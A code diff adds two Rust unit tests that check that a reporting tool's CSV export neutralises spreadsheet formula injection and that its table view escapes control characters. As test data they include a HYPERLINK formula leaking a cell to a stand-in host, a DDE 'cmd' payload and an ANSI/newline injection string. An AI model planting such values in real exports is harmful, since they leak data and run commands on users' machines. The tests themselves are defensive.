@@ -1504,3 +1504,48 @@ fn listed_coverage_expects_exactly_the_listed_units() {
         ]
     );
 }
+
+#[test]
+fn csv_text_cells_never_start_a_formula_and_numbers_stay_numbers() {
+    let f = fixture();
+    let mut s = f.q3();
+    s.units[0].name = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")".into();
+    s.units[1].name = "+1+cmd|' /C calc'!A0".into();
+    s.units[2].name = "-2+3".into();
+    s.indicators[0].name = "@SUM(1+1)".into();
+    s.units[0].values.0[0].1.value = Some(-5.0);
+    let bytes = to_csv(&s);
+    let mut reader = ::csv::Reader::from_reader(&bytes[3..]);
+    let header = reader.headers().unwrap().clone();
+    assert!(header[2].starts_with("'@SUM(1+1)"), "{header:?}");
+    let rows: Vec<::csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(
+        &rows[0][1],
+        "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"
+    );
+    assert_eq!(&rows[1][1], "'+1+cmd|' /C calc'!A0");
+    assert_eq!(&rows[2][1], "'-2+3");
+    assert_eq!(&rows[0][2], "-5", "a negative value stays a number");
+    assert_eq!(&rows[0][0], "county", "ordinary text is left alone");
+}
+
+#[test]
+fn explain_table_escapes_control_characters_of_entities() {
+    let f = fixture();
+    let req = ExplainRequest {
+        period: Period::parse("2026-Q3").unwrap(),
+        unit: "county/natres".into(),
+        indicator: "xuexi_points".into(),
+    };
+    let mut e = explain(&f.config, &f.tree, &f.store, &req).unwrap();
+    e.observations[0].entity = "alice\nEVIL  county/x  9999\u{1b}[31m\tred\r".into();
+    let table = e.to_table();
+    // A title, a heading and one line per observation: the newline did not
+    // make a row of its own.
+    assert_eq!(table.lines().count(), 2 + e.observations.len(), "{table}");
+    assert!(
+        table.contains("alice\\nEVIL  county/x  9999\\u{1b}[31m\\tred\\r"),
+        "{table}"
+    );
+    assert!(!table.contains('\u{1b}') && !table.contains('\t') && !table.contains('\r'));
+}
